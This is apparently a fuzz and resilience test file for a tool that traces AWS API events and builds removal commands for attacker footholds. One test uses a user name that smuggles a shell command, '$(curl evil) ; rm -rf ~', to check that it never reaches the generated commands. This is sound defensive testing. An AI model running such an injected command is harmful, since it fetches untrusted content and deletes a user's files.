import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ALL_EFFECTS } from '../../../knowledge/effects/index.ts';
import { techniquesOf } from '../../../knowledge/effects/index.ts';
import type { Json } from '../notable-event.ts';
import { readPolicy } from './policy-document.ts';
import { event } from './sample-event.ts';
import { traceEstate } from './trace-estate.ts';

const calls = ALL_EFFECTS.flatMap(({ source, apis }) => Object.keys(apis).map((api) => ({ source, api })));

/** Keys the tables look for, so that arbitrary values land where they are read. */
const keys = [...new Set((JSON.stringify(ALL_EFFECTS).match(/[A-Za-z][A-Za-z0-9-]+/g) ?? []).filter((word) => /^[a-z]/.test(word)))];
const json = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'medium' },
    fc.constantFrom<Json>(null, true, 0, '', '*', 'arn:', 'arn:aws:iam::1:role/x#', '%', '{"Statement":', '__proto__'),
    fc.string(),
    fc.double(),
    fc.array(tie('value'), { maxLength: 3 }),
    tie('object'),
  ),
  object: fc.dictionary(fc.oneof(fc.constantFrom(...keys, '__proto__', 'constructor'), fc.string()), tie('value'), { maxKeys: 6 }),
})).value as fc.Arbitrary<Json>;
const anyText = fc.option(fc.oneof(fc.string(), fc.constantFrom('AWS Internal', 'ec2.amazonaws.com', '2026-11-01T00:00:00Z')), { nil: null });

const hostile = fc.record({
  call: fc.oneof(fc.constantFrom(...calls), fc.record({ source: fc.string(), api: fc.string().map((text) => `Create${text}`) })),
  request: json,
  response: json,
  additional: json,
  serviceDetails: json,
  identity: json,
  arn: anyText,
  accessKeyId: anyText,
  sessionCreated: anyText,
  userName: anyText,
  region: fc.string(),
  account: fc.string(),
});

describe('hostile events', () => {
  it('never break the trace, and leave within bounds', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(hostile, { maxLength: 12 }), async (given) => {
        const events = given.map(({ call, ...rest }) => event(call.api, { source: call.source, ...rest }));
        const estate = await traceEstate(events, { bounds: { resources: 6, footholds: 5, issuances: 8, touched: 10, perItem: 3 } });
        expect(estate.resources.length).toBeLessThanOrEqual(6);
        expect(estate.footholds.length).toBeLessThanOrEqual(5);
        expect(estate.issuances.length).toBeLessThanOrEqual(8);
        expect(estate.touched.length).toBeLessThanOrEqual(10);
        for (const one of events) expect(techniquesOf(one).length).toBeLessThan(10);
        expect(() => JSON.stringify(estate)).not.toThrow();
      }),
      { numRuns: 300 },
    );
  });

  it('puts no shell or markup text into a removal command', async () => {
    const evil = event('CreateUser', { request: { userName: '$(curl evil) ; rm -rf ~ <b>' } });
    const [foothold] = (await traceEstate([evil])).footholds;
    expect(foothold?.target).toBe('$(curl evil) ; rm -rf ~ <b>');
    expect(`${foothold?.remove.en} ${foothold?.remove.ja}`).not.toMatch(/curl|<b>/);
  });

  it('survives a policy nested beyond reason', () => {
    const deep = `{"Statement":[{"Effect":"Deny","Condition":${'['.repeat(50_000)}${']'.repeat(50_000)}}]}`;
    expect(readPolicy(deep, '1')).toMatchObject({ revokesSessions: false });
  });

  it('survives one call naming very many things', async () => {
    const items = Array.from({ length: 100_000 }, (_, index) => ({ instanceId: `i-${index}` }));
    const estate = await traceEstate([event('TerminateInstances', { source: 'ec2.amazonaws.com', request: { instancesSet: { items } } })]);
    expect(estate.touched.length).toBeLessThanOrEqual(5_000);
  });
});
